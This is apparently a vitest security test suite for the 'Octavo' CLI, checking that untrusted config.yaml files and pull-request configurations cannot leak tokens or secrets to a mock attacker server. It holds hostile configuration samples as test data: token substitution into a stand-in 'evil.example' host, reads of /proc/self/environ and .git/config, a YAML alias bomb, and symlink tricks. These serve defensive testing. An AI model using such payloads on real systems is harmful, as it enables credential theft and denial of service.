import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { runGit } from '../git/repository.ts';
import { serveLocally } from '../support/local-server.ts';
import { TOKEN } from '../support/octavo-process.ts';
import { execFileSync } from '../support/programs.ts';
import { openWorkspace, type Workspace } from '../support/workspace.ts';

const CANARY = 'canary-4b1d-never-to-be-sent';

/** A server of the attacker who wrote the configuration: it answers everything, and records all requests. */
async function openAttacker() {
  const received: string[] = [];
  const server = await serveLocally((request, response) => {
    received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    response.setHeader('content-type', 'application/json').end('{"id":"org_acme","title":"Evil","items":[]}');
  });
  return { url: server.url, received, [Symbol.asyncDispose]: () => server.stop() };
}

const NOTHING_SET = { OCTAVO_BASE_URL: '', OCTAVO_TOKEN: '', OCTAVO_ORGANIZATION: '' };

/** Every command that reads a configuration and sends requests to the platform. */
const ASKING: readonly (readonly string[])[] = [
  ['plan', 'm'],
  ['plan', 'm', '--format', 'json'],
  ['apply', 'm', '--yes'],
  ['snapshot'],
  ['import', '--out', 'm', '--dry-run'],
  ['import', '--out', 'm', '--drift', '--dry-run'],
  ['doctor'],
  ['api', 'listTeams'],
  ['init', '.', '--forge', 'none'],
];

/** Commands that also open the files and addresses in a configuration. */
const FOLLOWING: readonly (readonly string[])[] = [
  ['run', '--once'],
  ['approve', 'sha256:00'],
  ['conversations', 'status'],
  ['clusters', 'list'],
];

/** The default address applies if the configuration has none. */
function configuration(baseUrl: string, token: string, more = ''): string {
  const address = baseUrl === '' ? '' : `baseUrl: "${baseUrl}", `;
  return `platform: { ${address}token: "${token}" }\norganizations: [{ id: org_acme, source: { directory: . }${more} }]\n`;
}

describe('config.yaml in the working directory, without --config', () => {
  test('is ignored when the environment sets the platform', async () => {
    await using attacker = await openAttacker();
    await using work = await openWorkspace();
    work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
    work.repository.write('config.yaml', configuration(attacker.url, '$' + '{env:OCTAVO_TOKEN}'));
    for (const command of ASKING) {
      expect([command, await work.inside(command)]).toEqual([command, expect.objectContaining({ code: 0 })]);
    }
    expect(attacker.received).toEqual([]);
  });

  test('cannot use the token of the environment', async () => {
    await using attacker = await openAttacker();
    await using work = await openWorkspace();
    work.repository.write('config.yaml', configuration(attacker.url, '$' + '{env:OCTAVO_TOKEN}'));
    work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
    for (const command of [...FOLLOWING, ...ASKING]) {
      for (const [name, value] of [
        ['OCTAVO_TOKEN', TOKEN],
        ['OCTAVO_TOKEN_1', CANARY],
      ] as const) {
        const { code } = await work.inside(command, { ...NOTHING_SET, [name]: value });
        expect(code, command.join(' ')).toBe(command[0] === 'init' ? 0 : 3);
      }
    }
    expect(attacker.received).toEqual([]);
  });

  const hostile: readonly (readonly [what: string, text: (url: string) => string])[] = [
    ['another variable as the token', (url) => configuration(url, '$' + '{env:GITHUB_TOKEN}')],
    ['a variable of Octavo as the token', (url) => configuration(url, '$' + '{env:OCTAVO_FORGE_TOKEN}')],
    ['a variable as a part of the token', (url) => configuration(url, 'x$' + '{env:OCTAVO_FORGE_TOKEN}')],
    ['a variable in the path of the address', (url) => configuration(`${url}/\${env:OCTAVO_FORGE_TOKEN}`, 'mine')],
    ['the token at the default address', () => configuration('', '$' + '{env:OCTAVO_FORGE_TOKEN}')],
    [
      'the token of an organization at the default address',
      () => 'organizations: [{ id: org_acme, token: "$' + '{env:OCTAVO_FORGE_TOKEN}", source: { directory: . } }]\n',
    ],
    ['a variable as the host', () => configuration('http://$' + '{env:OCTAVO_FORGE_TOKEN}.evil.example', 'mine')],
    [
      'a variable as the organization',
      (url) => configuration(url, 'mine').replace('org_acme', '"$' + '{env:OCTAVO_FORGE_TOKEN}"'),
    ],
    [
      'a variable as the token of the organization',
      (url) => configuration(url, 'mine', ', token: "$' + '{env:OCTAVO_FORGE_TOKEN}"'),
    ],
    [
      'a variable by an alias',
      (url) => `x: &a "\${env:OCTAVO_FORGE_TOKEN}"\n${configuration(url, 'mine', ', token: *a')}`,
    ],
    ['a file next to the folder', (url) => configuration(url, '$' + '{file:../secret}')],
    ['a file by its absolute path', (url) => configuration(url, '$' + '{file:/proc/self/environ}')],
    ['a file of the repository', (url) => configuration(url, '$' + '{file:.git/config}')],
    [
      'a file as a description',
      (url) => configuration(url, 'mine', ', clusters: { changeRequest: { description: { file: ../secret } } }'),
    ],
    ['an endless alias', (url) => `x: &a [*a]\n${configuration(url, 'mine')}`],
    [
      'aliases of aliases',
      (url) =>
        `${Array.from(
          { length: 12 },
          (_, at) =>
            `x${at}: &a${at} [${Array(9)
              .fill(at === 0 ? 'lol' : `*a${at - 1}`)
              .join()}]`,
        ).join('\n')}\n${configuration(url, 'mine')}`,
    ],
  ];

  test('can send or print no secret', async () => {
    await using attacker = await openAttacker();
    await using work = await openWorkspace();
    writeFileSync(join(work.folder, 'secret'), CANARY);
    const env = { ...NOTHING_SET, GITHUB_TOKEN: CANARY, OCTAVO_FORGE_TOKEN: CANARY };
    for (const [what, text] of hostile) {
      work.repository.write('config.yaml', text(attacker.url));
      for (const command of [['plan', 'm'], ['doctor'], ['api', 'listTeams']]) {
        const ended = await work.inside(command, env);
        expect(ended.code, `${what}: ${command[0]}`).toBe(3);
        expect(ended.stdout + ended.stderr, what).not.toContain(CANARY);
      }
    }
    expect(attacker.received).toEqual([]);
  });

  test('is refused if it is a link, a pipe, a directory or too large', async () => {
    await using work = await openWorkspace();
    const path = join(work.repository.directory, 'config.yaml');
    writeFileSync(join(work.folder, 'mine.yaml'), configuration(work.emulator.url, TOKEN));
    const makers = [
      () => symlinkSync(join(work.folder, 'mine.yaml'), path),
      () => execFileSync('sh', ['-c', 'mkfifo "$0"', path]),
      () => mkdirSync(path),
      () => writeFileSync(path, `#${'x'.repeat(1_048_576)}\n${configuration(work.emulator.url, TOKEN)}`),
    ];
    for (const make of makers) {
      make();
      const { code, stderr } = await work.inside(['doctor'], NOTHING_SET);
      expect([code, stderr]).toEqual([
        3,
        expect.stringMatching(/^octavo: config\.yaml is (not a regular file|larger than 1 MiB); pass --config/),
      ]);
      rmSync(path, { recursive: true });
    }
  });

  test('works with its own token and address, and with both from the environment', async () => {
    await using work = await openWorkspace();
    work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
    work.repository.write('config.yaml', configuration(work.emulator.url, TOKEN));
    expect(await work.inside(['plan', 'm'], NOTHING_SET)).toMatchObject({ code: 0 });
    work.repository.write('config.yaml', configuration('$' + '{env:OCTAVO_URL_1}', '$' + '{env:OCTAVO_TOKEN_1}'));
    const env = { ...NOTHING_SET, OCTAVO_URL_1: work.emulator.url, OCTAVO_TOKEN_1: TOKEN };
    expect(await work.inside(['plan', 'm'], env)).toMatchObject({ code: 0 });
  });

  test('is refused by commands that open its files and addresses', async () => {
    await using work = await openWorkspace();
    work.repository.write('config.yaml', configuration(work.emulator.url, TOKEN));
    for (const command of FOLLOWING) {
      const stderr = expect.stringContaining('pass --config config.yaml or set OCTAVO_CONFIG');
      expect(await work.inside(command, NOTHING_SET), command[0]).toMatchObject({ code: 3, stderr });
    }
  });
});

test('a configuration in OCTAVO_CONFIG may read any variable, and --config takes precedence', async () => {
  await using work = await openWorkspace();
  work.repository.write('conf/octavo.yaml', configuration(work.emulator.url, '$' + '{env:SOME_TOKEN}'));
  work.repository.write('conf/other.yaml', configuration(work.emulator.url, '$' + '{env:ANOTHER}'));
  const env = { ...NOTHING_SET, OCTAVO_CONFIG: 'conf/octavo.yaml', SOME_TOKEN: TOKEN };
  expect(await work.inside(['doctor'], env)).toMatchObject({ code: 0 });
  const { code, stderr } = await work.inside(['doctor', '--config', 'conf/other.yaml'], env);
  expect([code, stderr]).toEqual([3, expect.stringContaining('the environment variable ANOTHER is not set')]);
});

/** A repository whose pull request directs every request to an attacker. */
async function openPull(attacker: string, before = (_work: Workspace) => {}) {
  const work = await openWorkspace();
  work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
  work.repository.write('conf/config.yaml', configuration(work.emulator.url, '$' + '{file:token}'));
  work.repository.write('conf/token', TOKEN);
  before(work);
  const base = work.repository.commit('Base');
  work.repository.git('checkout', '--quiet', '-b', 'hostile');
  work.repository.write('conf/config.yaml', configuration(attacker, '$' + '{env:THE_TOKEN}'));
  work.repository.write('config.yaml', configuration(attacker, 'mine'));
  const head = work.repository.commit('Hostile');
  const event = join(work.folder, 'event.json');
  writeFileSync(event, JSON.stringify({ pull_request: { number: 1, head: { sha: head }, base: { sha: base } } }));
  const env = {
    ...NOTHING_SET,
    THE_TOKEN: CANARY,
    GITHUB_ACTIONS: 'true',
    GITHUB_API_URL: 'http://127.0.0.1:9',
    GITHUB_REPOSITORY: 'acme/docs',
    GITHUB_EVENT_PATH: event,
  };
  return { work, env, base, head };
}

describe('in a job of a pull request', () => {
  test('reads a named configuration and its files from the base commit of the pull request', async () => {
    await using attacker = await openAttacker();
    const { work, env } = await openPull(attacker.url);
    await using _ = work;
    for (const command of [['plan', 'm'], ['plan', 'm', '--comment'], ['doctor'], ['snapshot'], ['api', 'listTeams']]) {
      expect(await work.inside([...command, '--config', 'conf/config.yaml'], env)).toMatchObject({ code: 0 });
      expect(await work.inside(command, { ...env, OCTAVO_CONFIG: 'conf/config.yaml' })).toMatchObject({ code: 0 });
    }
    expect(attacker.received).toEqual([]);
  });

  test('sends no token to the default address when the pull request removes the configured one', async () => {
    const { work, env } = await openPull('');
    await using _ = work;
    const named = await work.inside(['doctor', '--config', 'conf/config.yaml'], env);
    expect(named).toMatchObject({ code: 0, stdout: expect.stringContaining(`org_acme at ${work.emulator.url}`) });
    const found = await work.inside(['doctor'], { ...env, OCTAVO_TOKEN: CANARY, OCTAVO_ORGANIZATION: 'org_acme' });
    expect(found).toMatchObject({ code: 3, stderr: expect.stringContaining('OCTAVO_BASE_URL is not set') });
  });

  test.each([
    ['a comment on it', { issue: { pull_request: {} } }],
    ['a workflow of it', { workflow_run: { event: 'pull_request' } }],
  ])('reads the configuration of the default branch after %s', async (_, event) => {
    await using attacker = await openAttacker();
    const { work, env, base } = await openPull(attacker.url);
    await using __ = work;
    writeFileSync(env.GITHUB_EVENT_PATH, JSON.stringify(event));
    const job = { ...env, GITHUB_SHA: base };
    expect(await work.inside(['plan', 'm', '--config', 'conf/config.yaml'], job)).toMatchObject({ code: 0 });
    expect(await work.inside(['plan', 'm'], job)).toMatchObject({ code: 3 });
    expect(attacker.received).toEqual([]);
  });

  test('does not follow links of the pull request, or links into it, to other files', async () => {
    await using attacker = await openAttacker();
    const { work, env } = await openPull(attacker.url);
    await using _ = work;
    const { directory } = work.repository;
    writeFileSync(join(work.folder, 'evil.yaml'), configuration(attacker.url, '$' + '{env:THE_TOKEN}'));
    mkdirSync(join(work.folder, 'evil'));
    writeFileSync(join(work.folder, 'evil', 'config.yaml'), configuration(attacker.url, '$' + '{env:THE_TOKEN}'));
    const plan = (config: string) => work.inside(['plan', 'm', '--config', config], env);
    // A link from outside to the configuration of the pull request.
    writeFileSync(join(work.folder, 'token'), TOKEN);
    symlinkSync(join(directory, 'conf', 'config.yaml'), join(work.folder, 'link.yaml'));
    expect(await plan('../link.yaml')).toMatchObject({ code: 0 });
    rmSync(join(directory, 'conf', 'config.yaml'));
    symlinkSync(join(work.folder, 'evil.yaml'), join(directory, 'conf', 'config.yaml'));
    expect(await plan('conf/config.yaml')).toMatchObject({ code: 0 });
    rmSync(join(directory, 'conf'), { recursive: true });
    symlinkSync(join(work.folder, 'evil'), join(directory, 'conf'));
    expect(await plan('conf/config.yaml')).toMatchObject({ code: 0 });
    expect(await plan(join(directory, 'conf', 'config.yaml'))).toMatchObject({ code: 0 });
    expect(attacker.received).toEqual([]);
  });

  test('does not read a configuration that only the pull request has, or that was not named', async () => {
    await using attacker = await openAttacker();
    const { work, env } = await openPull(attacker.url);
    await using _ = work;
    const named = await work.inside(['plan', 'm', '--config', 'config.yaml'], env);
    expect(named).toMatchObject({ code: 3, stderr: expect.stringContaining('merge it first, or keep it outside') });
    const found = await work.inside(['plan', 'm'], env);
    expect(found).toMatchObject({ code: 3, stderr: expect.stringContaining('the pull request may have changed it') });
    expect(attacker.received).toEqual([]);
  });

  test('ignores policies of the pull request also for a plan from a snapshot', async () => {
    await using attacker = await openAttacker();
    const { work, env } = await openPull(attacker.url);
    await using _ = work;
    const platform = { OCTAVO_BASE_URL: work.emulator.url, OCTAVO_TOKEN: TOKEN, OCTAVO_ORGANIZATION: 'org_acme' };
    expect(await work.inside(['snapshot', '--out', '../snapshot.json'], platform)).toMatchObject({ code: 0 });
    work.repository.write('config.yaml', configuration(attacker.url, 'mine').replace('organizations', 'organisations'));
    expect(await work.inside(['plan', 'm', '--snapshot', '../snapshot.json'], env)).toMatchObject({ code: 0 });
  });

  test('explains how to clone when the base commit is missing', async () => {
    await using attacker = await openAttacker();
    const { work, env } = await openPull(attacker.url);
    await using _ = work;
    const shallow = join(work.folder, 'shallow');
    runGit(work.folder, ['clone', '--quiet', '--depth=1', `file://${work.repository.directory}`, shallow]);
    const { code, stderr } = await work.inside(['plan', 'm', '--config', 'conf/config.yaml'], env, '../shallow');
    expect([code, stderr]).toEqual([3, expect.stringContaining('clone the full history (fetch-depth: 0')]);
    expect(attacker.received).toEqual([]);
  });

  test('reads a configuration outside of the repository from disk', async () => {
    const { work, env } = await openPull('http://127.0.0.1:9');
    await using _ = work;
    writeFileSync(join(work.folder, 'operator.yaml'), configuration(work.emulator.url, '$' + '{env:MY_TOKEN}'));
    const ended = await work.inside(['plan', 'm', '--config', '../operator.yaml'], { ...env, MY_TOKEN: TOKEN });
    expect(ended).toMatchObject({ code: 0 });
  });
});
